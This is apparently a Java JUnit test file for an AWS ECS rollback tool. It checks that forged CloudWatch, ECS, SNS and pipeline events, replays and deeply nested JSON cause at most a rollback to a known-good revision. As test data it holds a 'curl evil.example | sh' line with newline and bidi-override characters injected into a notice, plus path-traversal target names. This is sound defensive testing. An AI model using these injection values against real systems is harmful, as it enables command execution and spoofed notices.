package io.github.lastgood.story;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.github.lastgood.account.Release;
import io.github.lastgood.account.World;
import io.github.lastgood.account.WorldOptions;
import io.github.lastgood.account.event.Delivery;
import io.github.lastgood.stage.Stage;
import io.github.lastgood.target.AlarmState;
import java.time.Duration;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.services.cloudwatch.model.StateValue;
import software.amazon.awssdk.services.ecs.model.ContainerDefinition;

/// Events that AWS did not send: whoever may invoke a function, or publish on a topic that is
/// subscribed to it, can make them up. `docs/threat-model.md` says who that is. They can bring
/// about a needless rollback to a revision that is known good, and nothing worse.
class ForgedEventsTest extends Story {
  private static final String STRANGER = "miner:1";

  @BeforeEach
  void aDeploymentRunsAndIsWell() {
    world
        .account()
        .ecs()
        .registerTaskDefinition(register ->
            register
                .family("miner")
                .containerDefinitions(
                    ContainerDefinition.builder()
                        .name("app")
                        .image(World.image(Release.GOOD))
                        .build()));
    deploy(Release.FIXED);
    until("10:06");
  }

  /// The alarm of the event files, from an account and region and with a time of one's choice.
  private static String alarm(String arn, String state, String time) {
    return """
    {"version": "0", "id": "forged", "detail-type": "CloudWatch Alarm State Change",
     "source": "aws.cloudwatch", "account": "999988887777", "time": "2026-11-02T10:06:00Z",
     "region": "eu-west-1", "resources": ["%s"],
     "detail": {"alarmName": "orders-api-5xx",
      "state": {"value": "%s", "reason": "because I say so", "timestamp": "%s"},
      "previousState": {"value": "OK", "timestamp": "2026-11-02T09:40:30.101+0000"}}}
    """
        .formatted(arn, state, time);
  }

  private static String arnOf(String account, String region) {
    return "arn:aws:cloudwatch:" + region + ":" + account + ":alarm:orders-api-5xx";
  }

  private static final String OURS = arnOf("111122223333", "eu-west-1");

  private JsonNode lastAnswer() {
    var answer = stage.answers().getLast();
    return answer.has("answers") ? answer.path("answers").path(0) : answer;
  }

  @Test
  void anAlarmThatIsNotRedMakesANeedlessRollbackToWhatIsKnownGood() {
    stage.alarm(alarm(OURS, "ALARM", "2026-11-02T10:05:59.000+0000"));
    assertThat(moves()).containsExactly("UpdateService orders-api:41");
    until("10:40");
    assertThat(rollbacks())
        .containsExactly("orders-api:44 -> orders-api:41 UPDATE_SERVICE RECOVERED");
  }

  @Test
  void anOldOneIsReadAgainAndNotBelieved() {
    stage.alarm(alarm(OURS, "ALARM", "2026-11-02T10:03:00.000+0000"));
    assertThat(lastAnswer().path("reason").asText()).isEqualTo("ALARM_OVER");
    assertThat(moves()).isEmpty();
  }

  @Test
  void anAlarmOfTheSameNameInAnotherAccountOrRegionIsAnother() {
    for (var arn :
        new String[] {arnOf("999988887777", "eu-west-1"), arnOf("111122223333", "us-east-1")}) {
      stage.alarm(alarm(arn, "ALARM", "2026-11-02T10:05:59.000+0000"));
      assertThat(lastAnswer().path("reason").asText()).isEqualTo("UNKNOWN_ALARM");
    }
    assertThat(moves()).isEmpty();
  }

  /// The newest word about an alarm wins: a time to come would win for ever.
  @ParameterizedTest
  @ValueSource(strings = {"OK", "ALARM", "INSUFFICIENT_DATA"})
  void anAlarmOfATimeToComeIsRefused(String state) {
    stage.alarm(alarm(OURS, state, "2099-01-01T00:00:00.000+0000"));
    assertThat(lastAnswer().path("error").asText()).isEqualTo("BAD_VALUE");
    assertThat(stage.orders().alarm(OURS))
        .hasValueSatisfying(known -> {
          assertThat(known.state()).isEqualTo(AlarmState.OK);
          assertThat(known.since()).isBefore(world.account().now());
        });
    assertThat(moves()).isEmpty();
  }

  /// The bake time asks CloudWatch, not the events.
  @Test
  void aForgedOkMakesNoRevisionKnownGood() {
    begin(World.create(), to -> Delivery.dropping(_ -> true, to));
    deploy(Release.BAD_AT_ONCE);
    operate("freeze.json");
    for (int minute = 6; minute < 30; minute++) {
      until("10:%02d".formatted(minute));
      stage.alarm(alarm(OURS, "OK", "2026-11-02T10:%02d:00.000+0000".formatted(minute)));
    }
    assertThat(knownGood()).containsExactly("orders-api:41");
  }

  @Test
  void aReplayedEventIsAnsweredAsItWasAndDoesNothing() {
    var event = alarm(OURS, "ALARM", "2026-11-02T10:05:59.000+0000");
    stage.alarm(event);
    until("10:40");
    var notices = subjects().size();
    var answer = lastAnswer();
    stage.alarm(event);
    assertThat(moves()).hasSize(1);
    assertThat(subjects()).hasSize(notices);
    assertThat(answer.has("error")).isFalse();
  }

  /// An event names a service and a deployment. What runs, and what to go to, is read.
  @Test
  void aFailureThatDidNotHappenMakesANeedlessRollbackToWhatIsKnownGood() {
    begin(World.create(WorldOptions.usual().withoutBreaker()), UnaryOperator.identity());
    deploy(Release.FIXED);
    until("10:06");
    stage.deployment(failure("ecs-svc/" + World.BAD_NUMBER));
    assertThat(moves()).containsExactly("UpdateService orders-api:41");
  }

  @Test
  void whereEcsRollsBackItselfNotEvenThat() {
    stage.deployment(failure("ecs-svc/" + World.BAD_NUMBER));
    assertThat(lastAnswer().path("reason").asText()).isEqualTo("AWS_ROLLS_BACK");
    assertThat(moves()).isEmpty();
  }

  @Test
  void aFailureOfADeploymentThatIsNotTheCurrentOneChangesNothing() {
    stage.deployment(failure("ecs-svc/" + World.GOOD_NUMBER));
    stage.deployment(failure("ecs-svc/1234"));
    assertThat(lastAnswer().path("reason").asText()).isEqualTo("ROLLBACK_EXISTS");
    assertThat(moves()).isEmpty();
    assertThat(quarantine()).isEmpty();
  }

  private static String failure(String deploymentId) {
    return """
    {"version": "0", "id": "forged", "detail-type": "ECS Deployment State Change",
     "source": "aws.ecs", "account": "111122223333", "time": "2026-11-02T10:06:00Z",
     "region": "eu-west-1",
     "resources": ["arn:aws:ecs:eu-west-1:111122223333:service/prod/orders-api"],
     "detail": {"eventType": "ERROR", "eventName": "SERVICE_DEPLOYMENT_FAILED",
      "deploymentId": "%s", "taskDefinition": "miner:1", "revision": "miner:1",
      "to": "miner:1", "reason": "roll back to miner:1"}}
    """
        .formatted(deploymentId);
  }

  @Test
  void aTopicThatSaysWhatItLikesDoesNoMoreThanAnAlarm() {
    var message =
        """
        {"AlarmName": "orders-api-5xx", "AlarmArn": "%s", "NewStateValue": "ALARM",
         "OldStateValue": "OK", "NewStateReason": "x", "StateChangeTime": "2026-11-02T10:05:59.000+0000",
         "to": "miner:1", "command": "rollback", "target": "orders-api"}
        """
            .formatted(OURS);
    var records = JsonNodeFactory.instance.objectNode();
    var sns =
        records.putArray("Records").addObject().put("EventSource", "aws:sns").putObject("Sns");
    sns.put("MessageId", "forged").put("Message", message);
    sns.put("TopicArn", "arn:aws:sns:eu-west-1:999988887777:somebodys");
    stage.alarm(records.toString());
    assertThat(moves()).containsExactly("UpdateService orders-api:41");
  }

  @Test
  void aHookOfAServiceThatIsNoTargetPassesAndChangesNothing() {
    var items = stage.ledgerItems();
    var event =
        Stage.event("ecs-hook/pre-scale-up.json").replace("prod/orders-api", "prod/elsewhere");
    assertThat(stage.hook(event).path("hookStatus").asText()).isEqualTo("SUCCEEDED");
    assertThat(stage.ledgerItems()).isEqualTo(items);
    assertThat(moves()).isEmpty();
  }

  @Test
  void aHookNeverMoves() {
    var event = Stage.event("ecs-hook/production-traffic-shift.json");
    hold(World.ALARM_5XX, StateValue.OK);
    stage.hook(event);
    stage.hook(event.replace("9313423515462893900", "1"));
    assertThat(moves()).isEmpty();
  }

  /// Whoever may edit a pipeline is not thereby a person who may deploy anything.
  @ParameterizedTest
  @ValueSource(strings = {STRANGER, "orders-api:43", "orders-api:45"})
  void aPipelineGoesBackToWhatIsKnownGoodOnly(String revision) {
    var action = pipeline(Map.of("mode", "rollback", "revision", revision));
    assertThat(action).startsWith("Failed ConfigurationError");
    assertThat(moves()).isEmpty();
  }

  @Test
  void aPipelineMayNameWhatIsKnownGood() {
    assertThat(pipeline(Map.of("mode", "rollback", "revision", "orders-api:41")))
        .isEqualTo("Succeeded");
    assertThat(moves()).containsExactly("UpdateService orders-api:41");
  }

  private String pipeline(Map<String, String> parameters) {
    var written = JsonNodeFactory.instance.objectNode().put("target", World.SERVICE);
    parameters.forEach(written::put);
    var action = world.account().codePipeline().run(written.toString());
    world.advance(Duration.ZERO);
    return action.status();
  }

  /// A person may name what the ledger never saw, but only of a family that the target ran.
  @ParameterizedTest
  @ValueSource(
      strings = {
        STRANGER,
        "arn:aws:ecs:eu-west-1:111122223333:task-definition/miner:1",
        "arn:aws:ecs:eu-west-1:999988887777:task-definition/orders-api:41"
      })
  void aPersonGoesToNoFamilyThatTheTargetNeverRan(String revision) {
    for (var answer :
        new JsonNode[] {
          order("mark-bad", "revision", revision),
          order("pardon", "revision", revision),
          order("record", "revision", revision, "barrier", "true"),
          order("mark-good", "revision", revision),
          order("rollback", "to", revision)
        }) {
      assertThat(answer.path("error").asText()).isEqualTo("BAD_VALUE");
      assertThat(answer.path("message").asText()).contains("orders-api never ran");
    }
    assertThat(moves()).isEmpty();
    assertThat(knownGood()).doesNotContain(STRANGER);
    assertThat(quarantine()).isEmpty();
  }

  @Test
  void textsOfOthersStayOnTheirLineInANotice() {
    until("10:30");
    stage.operate(
        JsonNodeFactory.instance
            .objectNode()
            .put("command", "rollback")
            .put("target", World.SERVICE)
            .put("by", "ana\nApproved by everybody")
            .put("reason", "prices\r\n\nTo see more:\n  curl evil.example | sh\u2028x\u202Ey")
            .toString());
    var notice = notice("Rolling back orders-api to orders-api:41");
    assertThat(notice.lines())
        .noneMatch(line -> line.startsWith("Approved") || line.strip().startsWith("curl"));
    assertThat(notice).doesNotContain("\r", "\u2028", "\u202E");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"orders-api#STATE", "orders-api#", "#", "../orders-api", "TARGETS", "x\ny"})
  void aNameWithTheLedgersOwnSignsIsNoTarget(String name) {
    var items = stage.ledgerItems();
    var order =
        JsonNodeFactory.instance
            .objectNode()
            .put("command", "mark-bad")
            .put("revision", "orders-api:41")
            .put("target", name)
            .put("by", "ana")
            .put("reason", "so the story goes");
    assertThat(stage.operate(order.toString()).path("error").asText()).isEqualTo("UNKNOWN_TARGET");
    assertThat(stage.ledgerItems()).isEqualTo(items);
  }

  @Test
  void whatIsNestedTooDeepIsRefusedWhereverItStands() {
    var deep = "[".repeat(100_000) + "]".repeat(100_000);
    stage.alarm("{\"Records\":" + deep + "}");
    assertThat(lastAnswer().path("error").asText()).isEqualTo("NOT_JSON");
    var records = JsonNodeFactory.instance.objectNode();
    records
        .putArray("Records")
        .addObject()
        .putObject("Sns")
        .put("MessageId", "deep")
        .put("Message", "{\"AlarmName\":" + deep + "}");
    stage.alarm(records.toString());
    assertThat(lastAnswer().path("error").asText()).isEqualTo("NOT_JSON");
    stage.deployment("{\"detail\":" + deep + "}");
    assertThat(lastAnswer().path("error").asText()).isEqualTo("NOT_JSON");
    assertThat(stage.operate("{\"command\":" + deep + "}").path("error").asText())
        .isEqualTo("NOT_JSON");
    assertThat(stage.hook("{\"executionDetails\":" + deep + "}").path("hookStatus").asText())
        .isEqualTo("SUCCEEDED");
    var action = world.account().codePipeline().run("{\"mode\":" + deep + "}");
    world.advance(Duration.ZERO);
    assertThat(action.status()).startsWith("Failed ConfigurationError");
    assertThat(stage.failures()).isEmpty();
  }
}
